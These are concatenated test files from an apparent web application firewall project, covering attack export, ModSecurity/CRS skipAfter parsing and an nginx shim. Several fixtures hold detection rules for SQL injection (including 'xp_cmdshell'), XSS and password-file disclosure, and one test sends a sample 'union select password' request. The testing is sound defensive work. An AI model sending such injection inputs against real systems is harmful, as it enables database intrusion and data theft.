    q = HitQueue()
    for i in range(3):
        q.put(mk_hit(ts=float(i)))
    q.put(mk_hit(ts=4.0, attack=False, classes=()))
    ex = Exporter(q, spool_dir=str(tmp_path), brute=None)
    n = ex.flush_once()
    assert n == 1  # one (tenant, client, class) attack
    [spool_file] = list(tmp_path.glob("attacks.*.jsonl"))  # per-pid file
    lines = spool_file.read_text().splitlines()
    rec = json.loads(lines[0])
    assert rec["class"] == "sqli" and rec["count"] == 3
    assert ex.flush_once() == 0  # queue empty now


def test_exporter_brute_included(tmp_path):
    q = HitQueue()
    for i in range(30):
        q.put(mk_hit(ts=float(i), uri="/login", attack=False, classes=()))
    ex = Exporter(q, spool_dir=str(tmp_path),
                  brute=BruteDetector(BruteConfig(threshold=5)))
    assert ex.flush_once() == 1
    [spool_file] = list(tmp_path.glob("attacks.*.jsonl"))
    rec = json.loads(spool_file.read_text().splitlines()[0])
    assert rec["class"] == "brute"


# ---------------------------------------------------------------- channel

def test_post_channel_records_and_status():
    ch = PostChannel(brute=False)

    class V:
        attack, blocked, fail_open = True, True, False
        classes, rule_ids, score = ["sqli"], [942100], 5

    req = Request(uri="/x?a=1", headers={"X-Real-IP": "9.9.9.9, proxy"},
                  request_id="rq1", tenant=3)
    ch.record(req, V())
    st = ch.status()
    assert st["requests"] == 1 and st["attacks"] == 1
    assert st["queue"]["depth"] == 1
    hit = ch.queue.drain()[0]
    assert hit.client == "9.9.9.9"
    assert hit.tenant == 3


# ---------------------------------------------------------------- watcher

def test_ruleset_watcher_triggers_swap_on_new_artifact(tmp_path):
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang

    cr = compile_ruleset(parse_seclang(
        'SecRule ARGS "@rx (?i)union\\s+select" '
        '"id:942100,phase:2,block,severity:CRITICAL,tag:\'attack-sqli\'"'))
    art = tmp_path / "v1"
    cr.save(art)  # writes v1.npz + v1.json

    posts = []

    def poster(path, payload):
        posts.append((path, payload))
        return {"ruleset": cr.version}

    w = RulesetWatcher(str(tmp_path), "127.0.0.1:0", poster=poster)
    assert w.check_once() is True
    assert posts[0][0] == "/configuration/ruleset"
    assert posts[0][1]["path"] == str(art)
    assert w.current_version == cr.version
    # same version again: no second swap
    assert w.check_once() is False
    assert w.swaps == 1


def test_ruleset_watcher_empty_dir(tmp_path):
    w = RulesetWatcher(str(tmp_path), "127.0.0.1:0",
                       poster=lambda p, d: {})
    assert w.check_once() is False
    assert w.errors == 0


def test_matched_points_flow_to_attack_export(tmp_path):
    """Verdict.matches (confirm's matched variable + snippet) must ride
    the Hit into the aggregated attack record (wallarm export 'points'
    analog)."""
    from ingress_plus_tpu.compiler.ruleset import compile_ruleset
    from ingress_plus_tpu.compiler.seclang import parse_seclang
    from ingress_plus_tpu.models.pipeline import DetectionPipeline
    from ingress_plus_tpu.serve.normalize import Request

    cr = compile_ruleset(parse_seclang(
        'SecRule ARGS "@rx (?i)union\\s+select" '
        '"id:942100,phase:2,block,severity:CRITICAL,tag:\'attack-sqli\'"'))
    p = DetectionPipeline(cr, mode="block")
    req = Request(uri="/p?a=clean&q=1+union+select+password",
                  request_id="r1")
    v = p.detect([req])[0]
    assert v.attack and v.matches, v
    assert v.matches[0]["rule_id"] == 942100
    assert "union" in v.matches[0]["value"].lower()
    # the SPECIFIC variable, not just the collection
    assert v.matches[0]["var"] == "ARGS:q"

    ch = PostChannel(brute=False)
    ch.record(req, v)
    hits = ch.queue.drain()
    assert hits[0].matches and hits[0].matches[0]["rule_id"] == 942100
    attacks = aggregate_attacks(hits)
    assert attacks
    rec = attacks[0].to_dict()
    assert rec["sample_points"][0]["rule_id"] == 942100
