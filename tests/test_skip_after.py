"""skipAfter / SecMarker control flow (VERDICT r04 item #7).

Real CRS trees gate paranoia tiers with marker jumps::

    SecRule TX:DETECTION_PARANOIA_LEVEL "@lt 2" \
        "id:942013,phase:2,pass,nolog,skipAfter:END-SQLI-PL2"
    ... PL2 rules ...
    SecMarker "END-SQLI-PL2"

The condition compares a SecAction-set TX variable, so the jump resolves
at parse time: true → the marker interval's rules never load; false →
the control rule is inert and the tier stays active.  Non-static
conditions keep everything active (sound: over-detect, never
under-detect).  These tests pin ModSecurity-equivalent ACTIVE-RULE SETS
for genuine CRS-shaped trees through the migration (Include) path.
"""

from __future__ import annotations

from ingress_plus_tpu.compiler.seclang import load_seclang_dir, parse_seclang


# NOTE: directory mode loads *.conf sorted — the setup file must sort
# before the rule files for its TX assignments to be visible to
# skipAfter conditions, exactly like the bundled pack's
# 900-crs-setup.conf and the real CRS's entry-config Include order.
def _tree(tmp_path, paranoia: int):
    (tmp_path / "100-crs-setup.conf").write_text(
        'SecAction "id:900000,phase:1,pass,nolog,'
        'setvar:tx.detection_paranoia_level=%d"\n' % paranoia)
    (tmp_path / "942-sqli.conf").write_text(
        'SecRule ARGS "@rx (?i)union\\s+select" '
        '"id:942100,phase:2,block,severity:CRITICAL,tag:\'attack-sqli\'"\n'
        'SecRule TX:DETECTION_PARANOIA_LEVEL "@lt 2" '
        '"id:942013,phase:2,pass,nolog,skipAfter:END-SQLI-PL2"\n'
        'SecRule ARGS "@rx (?i)sleep\\s*\\(" '
        '"id:942170,phase:2,block,severity:CRITICAL,tag:\'attack-sqli\'"\n'
        'SecMarker "END-SQLI-PL2"\n'
        'SecRule ARGS "@rx (?i)xp_cmdshell" '
        '"id:942999,phase:2,block,severity:CRITICAL,tag:\'attack-sqli\'"\n')
    return tmp_path


def _ids(rules):
    return [r.rule_id for r in rules if r.rule_id]


def test_skip_taken_drops_marker_interval(tmp_path):
    """PL=1: the @lt 2 condition holds, so the PL2 tier (942170) is
    skipped; rules after the marker stay active; the control rule
    itself never loads."""
    rules = load_seclang_dir(_tree(tmp_path, paranoia=1))
    ids = _ids(rules)
    assert 942100 in ids and 942999 in ids
    assert 942170 not in ids
    assert 942013 not in ids


def test_skip_not_taken_keeps_tier(tmp_path):
    """PL=2: the condition is statically false — the tier loads, and
    the inert control rule still drops."""
    rules = load_seclang_dir(_tree(tmp_path, paranoia=2))
    ids = _ids(rules)
    assert 942100 in ids and 942170 in ids and 942999 in ids
    assert 942013 not in ids


def test_paranoia_crosses_files(tmp_path):
    """The TX assignment lives in crs-setup.conf; the skip rule in a
    later rules file must still see it through the shared parse state
    (the real CRS layout)."""
    # same tree, but also through an entry config with Includes —
    # the migration path
    _tree(tmp_path, paranoia=1)
    (tmp_path / "modsecurity.conf").write_text(
        "SecRuleEngine On\n"
        "Include 100-crs-setup.conf\n"
        "Include 942-sqli.conf\n")
    rules = load_seclang_dir(tmp_path / "modsecurity.conf")
    ids = _ids(rules)
    assert 942100 in ids and 942999 in ids
    assert 942170 not in ids


def test_uppercase_tx_macro_setvar_copy_resolves(tmp_path):
    """ADVICE r05: CRS writes macros in canonical caps —
    ``%{TX.blocking_paranoia_level}`` — and the static resolver must
    match them case-insensitively, or skipAfter/paranoia resolution
    silently no-ops on canonical CRS trees.  Here the one-hop setvar
    copy rides the caps macro: if it resolves, detection PL = 1 and the
    ``@lt 2`` skip IS taken (tier dropped); the old lowercase-only match
    would invalidate the variable, abstain, and keep the tier."""
    (tmp_path / "100-crs-setup.conf").write_text(
        'SecAction "id:900000,phase:1,pass,nolog,'
        'setvar:tx.blocking_paranoia_level=1,'
        'setvar:tx.detection_paranoia_level=%{TX.blocking_paranoia_level}"'
        '\n')
    (tmp_path / "942-sqli.conf").write_text(
        'SecRule TX:DETECTION_PARANOIA_LEVEL "@lt 2" '
        '"id:942013,phase:2,pass,nolog,skipAfter:END-SQLI-PL2"\n'
        'SecRule ARGS "@rx (?i)sleep\\s*\\(" '
        '"id:942170,phase:2,block,severity:CRITICAL,tag:\'attack-sqli\'"\n'
        'SecMarker "END-SQLI-PL2"\n')
    ids = _ids(load_seclang_dir(tmp_path))
    assert 942170 not in ids    # skip taken — the caps copy resolved
    assert 942013 not in ids


def test_uppercase_tx_macro_condition_argument_resolves(tmp_path):
    """Same caps form in a condition ARGUMENT:
    ``@lt %{TX.BLOCKING_PARANOIA_LEVEL}`` must compare against the
    resolved value (1 < 2 → skip taken → tier dropped), not abstain."""
    (tmp_path / "100-crs-setup.conf").write_text(
        'SecAction "id:900000,phase:1,pass,nolog,'
        'setvar:tx.blocking_paranoia_level=2,'
        'setvar:tx.detection_paranoia_level=1"\n')
    (tmp_path / "942-sqli.conf").write_text(
        'SecRule TX:DETECTION_PARANOIA_LEVEL '
        '"@lt %{TX.BLOCKING_PARANOIA_LEVEL}" '
        '"id:942013,phase:2,pass,nolog,skipAfter:END-SQLI-PL2"\n'
        'SecRule ARGS "@rx (?i)sleep\\s*\\(" '
        '"id:942170,phase:2,block,severity:CRITICAL,tag:\'attack-sqli\'"\n'
        'SecMarker "END-SQLI-PL2"\n')
    ids = _ids(load_seclang_dir(tmp_path))
    assert 942170 not in ids    # 1 < 2 held through the caps macro
    assert 942013 not in ids


def test_non_static_condition_keeps_rules_active():
    """A skip condition on a request-time variable cannot resolve
    statically: everything stays active (the sound fallback), including
    the control rule (which abstains at runtime)."""
    rules = parse_seclang(
        'SecRule REQUEST_HEADERS:X-Mode "@streq fast" '
        '"id:100,phase:1,pass,skipAfter:END-X"\n'
        'SecRule ARGS "@rx evil" "id:101,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-X"\n')
    ids = _ids(rules)
    assert 100 in ids and 101 in ids


def test_unconditional_secaction_skip():
    """SecAction with skipAfter jumps unconditionally; its setvars still
    apply first (ModSecurity executes actions before the jump)."""
    rules = parse_seclang(
        'SecAction "id:200,phase:2,pass,nolog,'
        'setvar:tx.blocking_paranoia_level=1,skipAfter:END-SKIP"\n'
        'SecRule ARGS "@rx never" "id:201,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-SKIP"\n'
        'SecRule ARGS "@rx after" "id:202,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n")
    ids = _ids(rules)
    assert 201 not in ids and 202 in ids
    # the SecAction's setvar rule is retained for the TX env fold
    sv = [r for r in rules if r.operator == "unconditionalMatch"]
    assert any("tx.blocking_paranoia_level=1" in v
               for r in sv for v in r.setvars)


def test_missing_marker_skips_rest_of_file(tmp_path):
    """skipAfter to a marker that never appears skips to the end of the
    file (ModSecurity behavior) — but NOT into the next file of the
    tree (a typo'd marker must not silently swallow the whole pack)."""
    (tmp_path / "100-crs-setup.conf").write_text(
        'SecAction "id:900000,phase:1,pass,nolog,'
        'setvar:tx.detection_paranoia_level=1"\n')
    (tmp_path / "910-a.conf").write_text(
        'SecRule TX:DETECTION_PARANOIA_LEVEL "@lt 2" '
        '"id:300,phase:2,pass,skipAfter:NO-SUCH-MARKER"\n'
        'SecRule ARGS "@rx aaa" "id:301,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n")
    (tmp_path / "920-b.conf").write_text(
        'SecRule ARGS "@rx bbb" "id:302,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n")
    ids = _ids(load_seclang_dir(tmp_path))
    assert 301 not in ids
    assert 302 in ids


def test_nested_markers_and_ge_form(tmp_path):
    """The executing-paranoia shape (@ge, negated sense) and multiple
    sequential tiers in one file resolve independently."""
    (tmp_path / "100-setup.conf").write_text(
        'SecAction "id:900,phase:1,pass,nolog,'
        'setvar:tx.detection_paranoia_level=3"\n')
    (tmp_path / "900-rules.conf").write_text(
        # tier 2: active at PL3
        'SecRule TX:DETECTION_PARANOIA_LEVEL "@lt 2" '
        '"id:10,phase:2,pass,skipAfter:END-PL2"\n'
        'SecRule ARGS "@rx t2" "id:11,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-PL2"\n'
        # tier 4: skipped at PL3
        'SecRule TX:DETECTION_PARANOIA_LEVEL "@lt 4" '
        '"id:20,phase:2,pass,skipAfter:END-PL4"\n'
        'SecRule ARGS "@rx t4" "id:21,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-PL4"\n')
    ids = _ids(load_seclang_dir(tmp_path))
    assert 11 in ids
    assert 21 not in ids


def test_skip_is_phase_scoped():
    """A ModSecurity jump fires during the control rule's phase only:
    a phase:1 gate must NOT drop a phase:2 rule inside its interval
    (review finding — CRS emits paired per-phase control rules for
    exactly this reason)."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.pl=1"\n'
        'SecRule TX:PL "@lt 2" "id:400,phase:1,pass,skipAfter:END-T"\n'
        'SecRule REQUEST_HEADERS:X-A "@streq x" "id:401,phase:1,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecRule ARGS "@rx evil" "id:402,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-T"\n')
    ids = _ids(rules)
    assert 401 not in ids      # same phase: skipped
    assert 402 in ids          # other phase: ModSecurity still runs it


def test_typoed_marker_does_not_leak_past_include(tmp_path):
    """An unmatched marker inside an Include'd file must not swallow
    the rules of subsequent Includes (review finding: the leak compiled
    the rest of the pack empty)."""
    (tmp_path / "setup.conf").write_text(
        'SecAction "id:900,phase:1,pass,nolog,'
        'setvar:tx.detection_paranoia_level=1"\n')
    (tmp_path / "a.conf").write_text(
        'SecRule TX:DETECTION_PARANOIA_LEVEL "@lt 2" '
        '"id:500,phase:2,pass,skipAfter:TYPO-MARKER"\n'
        'SecRule ARGS "@rx aaa" "id:501,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n")
    (tmp_path / "b.conf").write_text(
        'SecRule ARGS "@rx bbb" "id:502,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n")
    (tmp_path / "modsecurity.conf").write_text(
        "Include setup.conf\nInclude a.conf\nInclude b.conf\n")
    ids = _ids(load_seclang_dir(tmp_path / "modsecurity.conf"))
    assert 501 not in ids      # skipped to end of its own file
    assert 502 in ids          # next Include unaffected


def test_incremented_tx_variable_abstains():
    """A later ``=+`` increment makes the variable's parse-time value
    unknowable: the skip condition must abstain and keep the tier
    active, not trust the stale literal (review finding — the stale
    value dropped rules ModSecurity would run)."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,'
        'setvar:tx.detection_paranoia_level=1"\n'
        'SecAction "id:901,phase:1,pass,nolog,'
        'setvar:tx.detection_paranoia_level=+1"\n'
        'SecRule TX:DETECTION_PARANOIA_LEVEL "@lt 2" '
        '"id:600,phase:2,pass,skipAfter:END-PL2"\n'
        'SecRule ARGS "@rx t2" "id:601,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-PL2"\n')
    ids = _ids(rules)
    assert 600 in ids and 601 in ids   # everything stays active


def test_conditional_secrule_setvar_invalidates_stale_literal():
    """ISSUE 2 satellite: a request-dependent SecRule that rewrites a TX
    variable must INVALIDATE the parse-time literal — the old behavior
    left the SecAction value in place and a later skipAfter condition
    confidently mis-skipped rules ModSecurity would run."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.pl=1"\n'
        # request-dependent override (cannot resolve at parse time)
        'SecRule REQUEST_HEADERS:X-Paranoia "@streq high" '
        '"id:901,phase:1,pass,setvar:tx.pl=4"\n'
        'SecRule TX:PL "@lt 2" "id:902,phase:2,pass,skipAfter:END-T"\n'
        'SecRule ARGS "@rx evil" "id:903,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-T"\n')
    ids = _ids(rules)
    assert 903 in ids      # condition abstained: tier stays ACTIVE
    assert 902 in ids      # control rule kept (abstains at runtime)


def test_statically_true_secrule_setvar_folds():
    """A SecRule whose own condition resolves statically TRUE folds its
    setvars like a SecAction (the conditional crs-setup shape)."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.mode=1"\n'
        'SecRule TX:MODE "@eq 1" "id:901,phase:1,pass,nolog,'
        'setvar:tx.pl=1"\n'
        'SecRule TX:PL "@lt 2" "id:902,phase:2,pass,skipAfter:END-T"\n'
        'SecRule ARGS "@rx evil" "id:903,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-T"\n')
    ids = _ids(rules)
    assert 903 not in ids  # tx.pl=1 folded → @lt 2 true → tier skipped
    assert 902 not in ids


def test_statically_false_secrule_setvar_ignored():
    """A statically-FALSE condition never fires: its setvars neither
    fold nor invalidate (the SecAction literal stays authoritative)."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,'
        'setvar:tx.mode=1,setvar:tx.pl=1"\n'
        'SecRule TX:MODE "@eq 5" "id:901,phase:1,pass,nolog,'
        'setvar:tx.pl=9"\n'
        'SecRule TX:PL "@lt 2" "id:902,phase:2,pass,skipAfter:END-T"\n'
        'SecRule ARGS "@rx evil" "id:903,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-T"\n')
    ids = _ids(rules)
    assert 903 not in ids  # tx.pl stayed 1 → skip taken


def test_skip_rule_setvars_fold_before_jump():
    """A statically-TRUE skipAfter control rule executes its setvars
    BEFORE jumping (ModSecurity action order) — review finding: skipping
    the fold left the stale literal and a later tier was mis-skipped."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.pl=1"\n'
        'SecRule TX:PL "@eq 1" "id:901,phase:2,pass,nolog,'
        'setvar:tx.pl=9,skipAfter:END-A"\n'
        'SecRule ARGS "@rx inskip" "id:902,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-A"\n'
        'SecRule TX:PL "@lt 2" "id:903,phase:2,pass,skipAfter:END-B"\n'
        'SecRule ARGS "@rx evil" "id:904,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-B"\n')
    ids = _ids(rules)
    assert 902 not in ids  # the taken jump skipped its interval
    assert 904 in ids      # tx.pl=9 folded → @lt 2 false → tier ACTIVE


def test_crs901_count_defaulting_idiom_stays_static():
    """Review finding: the canonical CRS-901 defaulting shape —
    ``SecRule &TX:var "@eq 0" "...,setvar:tx.var=1"`` — must resolve
    statically FALSE when the variable is already set (count is 1), not
    invalidate the very paranoia variable crs-setup just assigned."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,'
        'setvar:tx.detection_paranoia_level=1"\n'
        'SecRule &TX:DETECTION_PARANOIA_LEVEL "@eq 0" '
        '"id:901,phase:1,pass,nolog,'
        'setvar:tx.detection_paranoia_level=1"\n'
        'SecRule TX:DETECTION_PARANOIA_LEVEL "@lt 2" '
        '"id:902,phase:2,pass,skipAfter:END-PL2"\n'
        'SecRule ARGS "@rx pl2" "id:903,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-PL2"\n')
    ids = _ids(rules)
    assert 903 not in ids  # the gate still resolved: tier skipped @ PL1
    assert 902 not in ids


def test_valueless_setvar_sets_one():
    """``setvar:tx.NAME`` with no value is ModSecurity's "set to 1" —
    review finding: ignoring it left a stale literal and a later
    skipAfter condition confidently mis-skipped a tier."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,'
        'setvar:tx.mode=1,setvar:tx.foo=0"\n'
        'SecRule TX:MODE "@eq 1" "id:901,phase:1,pass,nolog,'
        'setvar:tx.foo"\n'
        'SecRule TX:FOO "@eq 0" "id:902,phase:2,pass,skipAfter:END-T"\n'
        'SecRule ARGS "@rx evil" "id:903,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-T"\n')
    ids = _ids(rules)
    assert 903 in ids      # tx.foo folded to 1 → @eq 0 false → active


def test_delete_form_setvar_clears_parse_time_env():
    """``setvar:!tx.NAME`` deletes the variable — the parse-time env
    entry must go too (review finding: the stale literal made a later
    skipAfter condition confidently wrong and dropped a tier)."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,'
        'setvar:tx.mode=1,setvar:tx.pl=1"\n'
        'SecRule TX:MODE "@eq 1" "id:901,phase:1,pass,nolog,'
        'setvar:!tx.pl"\n'
        'SecRule TX:PL "@lt 2" "id:902,phase:2,pass,skipAfter:END-T"\n'
        'SecRule ARGS "@rx evil" "id:903,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-T"\n')
    ids = _ids(rules)
    assert 903 in ids      # tx.pl deleted → condition abstains → active


def test_chain_carried_setvar_invalidates():
    """Chain-carried setvars are conjunction-conditioned — never
    statically decidable here — so they always invalidate."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.pl=1"\n'
        'SecRule ARGS "@rx a" "id:901,phase:2,pass,chain,'
        'setvar:tx.pl=3"\n'
        '    SecRule ARGS "@rx b"\n'
        'SecRule TX:PL "@lt 2" "id:902,phase:2,pass,skipAfter:END-T"\n'
        'SecRule ARGS "@rx evil" "id:903,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        'SecMarker "END-T"\n')
    ids = _ids(rules)
    assert 903 in ids      # tx.pl undecidable → abstain → tier active


def test_skipped_chain_leader_takes_links(tmp_path):
    """A chain leader inside a skipped region must take its
    continuation links with it — a dangling link would misparse as a
    standalone rule."""
    rules = parse_seclang(
        'SecAction "id:900,phase:1,pass,nolog,setvar:tx.pl=1"\n'
        'SecRule TX:PL "@lt 2" "id:700,phase:2,pass,skipAfter:END-C"\n'
        'SecRule ARGS "@rx one" "id:701,phase:2,block,chain,'
        "severity:CRITICAL,tag:'attack-generic'\"\n"
        '    SecRule ARGS "@rx two"\n'
        'SecMarker "END-C"\n'
        'SecRule ARGS "@rx three" "id:702,phase:2,block,'
        "severity:CRITICAL,tag:'attack-generic'\"\n")
    ids = _ids(rules)
    assert 701 not in ids
    assert 702 in ids
    # no orphaned chain link survived as a standalone rule
    assert not any(r.argument == "two" for r in rules)
