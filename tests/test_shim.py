"""Shim client (native/shim) e2e: the blocking DetectClient core the nginx
module runs on its thread pool, driven through the full stack — selftest
binary → sidecar → serve loop — plus the fail-open deadline against a dead
socket."""

import json
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import pytest

REPO = Path(__file__).resolve().parent.parent
SELFTEST = REPO / "native" / "shim" / "shim_selftest"
SIDECAR = REPO / "native" / "sidecar" / "sidecar"

TINY_RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
"""


@pytest.fixture(scope="module")
def stack(tmp_path_factory):
    if shutil.which("g++") is None:
        pytest.skip("no g++")
    subprocess.run(["make", "-s", "-C", str(REPO / "native" / "shim")],
                   check=True)
    subprocess.run(["make", "-s", "-C", str(REPO / "native" / "sidecar")],
                   check=True)
    tmp = tmp_path_factory.mktemp("shim")
    rules_dir = tmp / "rules"
    rules_dir.mkdir()
    (rules_dir / "tiny.conf").write_text(TINY_RULES)
    serve_sock = str(tmp / "serve.sock")
    env = dict(os.environ)
    env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=1"
    serve = subprocess.Popen(
        [sys.executable, "-m", "ingress_plus_tpu.serve",
         "--socket", serve_sock, "--rules-dir", str(rules_dir),
         "--platform", "cpu", "--max-delay-us", "1000", "--no-warmup",
         # CI-host ladder desensitization (see test_serve_e2e fixture)
         "--hard-deadline-ms", "5000",
         "--http-port", "0"],
        cwd=str(REPO), env=env, stderr=subprocess.PIPE, text=True)
    for _ in range(600):
        if Path(serve_sock).exists():
            try:
                s = socket.socket(socket.AF_UNIX)
                s.connect(serve_sock)
                s.close()
                break
            except OSError:
                pass
        if serve.poll() is not None:
            raise RuntimeError("server died: %s" % serve.stderr.read())
        time.sleep(0.1)
    side_sock = str(tmp / "side.sock")
    side = subprocess.Popen(
        [str(SIDECAR), "--listen", side_sock, "--upstream", serve_sock,
         "--deadline-ms", "60000"],
        stderr=subprocess.PIPE, text=True)
    for _ in range(100):
        if Path(side_sock).exists():
            break
        time.sleep(0.05)
    yield side_sock, tmp
    side.terminate()
    side.wait(timeout=10)
    serve.terminate()
    serve.wait(timeout=10)


def test_shim_client_through_full_stack(stack):
    side_sock, tmp = stack
    dead = str(tmp / "dead.sock")  # nothing listening
    out = subprocess.run(
        [str(SELFTEST), side_sock, dead],
        capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stderr
    cases = {json.loads(l)["case"]: json.loads(l)
             for l in out.stdout.splitlines()}
    assert cases["attack"]["attack"] and cases["attack"]["blocked"]
    assert not cases["attack"]["fail_open"]
    assert cases["attack"]["n_rules"] >= 1
    assert not cases["benign"]["attack"] and not cases["benign"]["blocked"]
    # streamed body: attack split across chunks, caught by carried state
    assert cases["stream"]["attack"] and cases["stream"]["blocked"]
    # websocket capture: masked fragmented attack message caught at the
    # completing frame; later frames report the sticky stream verdict
    assert cases["ws_attack"]["attack"] and cases["ws_attack"]["blocked"]
    assert not cases["ws_attack"]["fail_open"]
    assert cases["ws_sticky"]["attack"]
    # dead socket: pass + fail-open, never an error or a hang
    assert cases["dead_socket"]["fail_open"]
    assert not cases["dead_socket"]["blocked"]


def test_nginx_module_directives_match_template():
    """The template renderer's detect_tpu_* directives and the nginx
    module's command table must stay in lockstep (the rendered config is
    the module's public interface)."""
    module_src = (REPO / "native" / "shim" /
                  "ngx_http_detect_tpu_module.c").read_text()
    from ingress_plus_tpu.control.annotations import DetectionConfig
    from ingress_plus_tpu.control.config import GlobalConfig
    from ingress_plus_tpu.control.model import (
        Configuration, Location, Server)
    from ingress_plus_tpu.control.objects import Backend
    from ingress_plus_tpu.control.template import render

    det = DetectionConfig(detection_backend="tpu",
                          mode="block", tenant=7,
                          block_page="/blocked.html",
                          parse_response=True, parse_websocket=True,
                          parser_disable=["xml"])
    conf = Configuration(servers=[Server(hostname="x.test", locations=[
        Location(path="/", path_type="Prefix",
                 backend=Backend(service="app", port=80),
                 detection=det, ingress_key="default/app")])])
    text = render(conf, GlobalConfig())
    for line in text.splitlines():
        line = line.strip()
        if line.startswith("detect_tpu"):
            directive = line.split()[0].rstrip(";")
            assert 'ngx_string("%s")' % directive in module_src, \
                "template renders %r but the module doesn't define it" \
                % directive


def test_nginx_module_compiles():
    """The 700-LoC nginx module must go through a real compiler in CI
    (round-2 VERDICT: a typo'd nginx symbol would otherwise ship).  The
    vendored nginx_compat headers declare the exact public-API subset
    the module uses; -Wall -Wextra -Werror, so unused or mistyped
    anything fails the suite."""
    if shutil.which("gcc") is None and shutil.which("cc") is None:
        pytest.skip("no C compiler")
    obj = REPO / "native" / "shim" / "ngx_http_detect_tpu_module.o"
    if obj.exists():
        obj.unlink()
    out = subprocess.run(
        ["make", "-C", str(REPO / "native" / "shim"), "module"],
        capture_output=True, text=True, timeout=120)
    assert out.returncode == 0, out.stdout + out.stderr
    assert obj.exists()


HARNESS = REPO / "native" / "shim" / "shim_harness"

HARNESS_RULES = """
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)union\\s+select" \
    "id:942100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-sqli'"
SecRule REQUEST_URI|ARGS|REQUEST_BODY "@rx (?i)<script" \
    "id:941100,phase:2,block,t:urlDecodeUni,severity:CRITICAL,tag:'attack-xss'"
SecRule RESPONSE_BODY "@rx (?i)root:[^\\s]{0,24}:0:0:" \
    "id:950100,phase:4,block,severity:CRITICAL,tag:'attack-disclosure'"
"""


@pytest.fixture(scope="module")
def harness_stack(tmp_path_factory):
    """Serve loop (block mode, ACLs pushed over the config plane) for the
    nginx phase-machine harness — the module talks STRAIGHT to serve
    (the shim's DetectClient speaks the same frame protocol as the
    sidecar's upstream side)."""
    if shutil.which("g++") is None:
        pytest.skip("no g++")
    subprocess.run(["make", "-s", "-C", str(REPO / "native" / "shim")],
                   check=True)
    tmp = tmp_path_factory.mktemp("harness")
    rules_dir = tmp / "rules"
    rules_dir.mkdir()
    (rules_dir / "tiny.conf").write_text(HARNESS_RULES)
    serve_sock = str(tmp / "serve.sock")
    env = dict(os.environ)
    env["XLA_FLAGS"] = "--xla_force_host_platform_device_count=1"
    serve = subprocess.Popen(
        [sys.executable, "-m", "ingress_plus_tpu.serve",
         "--socket", serve_sock, "--rules-dir", str(rules_dir),
         "--platform", "cpu", "--max-delay-us", "1000", "--no-warmup",
         # CI-host ladder desensitization (see test_serve_e2e fixture)
         "--hard-deadline-ms", "5000",
         "--http-port", "19907"],
        cwd=str(REPO), env=env, stderr=subprocess.PIPE, text=True)
    for _ in range(600):
        if Path(serve_sock).exists():
            try:
                s = socket.socket(socket.AF_UNIX)
                s.connect(serve_sock)
                s.close()
                break
            except OSError:
                pass
        if serve.poll() is not None:
            raise RuntimeError("server died: %s" % serve.stderr.read())
        time.sleep(0.1)
    # ACLs for the safe_blocking / deny / spoof scenarios
    import urllib.request
    req = urllib.request.Request(
        "http://127.0.0.1:19907/configuration/acl",
        data=json.dumps({
            "acls": {"edge": {"greylist": ["203.0.113.0/24"],
                              "deny": ["10.66.66.0/24"]}},
            "default": "edge",
        }).encode(), method="POST",
        headers={"Content-Type": "application/json"})
    assert json.loads(urllib.request.urlopen(req, timeout=10).read())[
        "acls"] == ["edge"]
    yield serve_sock
    serve.terminate()
    serve.wait(timeout=10)


def test_phase_state_machine_scenarios(harness_stack):
    """VERDICT r03 item #5 + r04 item #5: execute the module's
    access-phase re-entry / refcount / verdict machine AND the WebSocket
    upgrade-capture relay wrap under the nginx test double, against a
    live serve loop: pass, 403, block-page redirect, monitoring,
    fail-open (+marker header), fail-closed 503, missing thread pool,
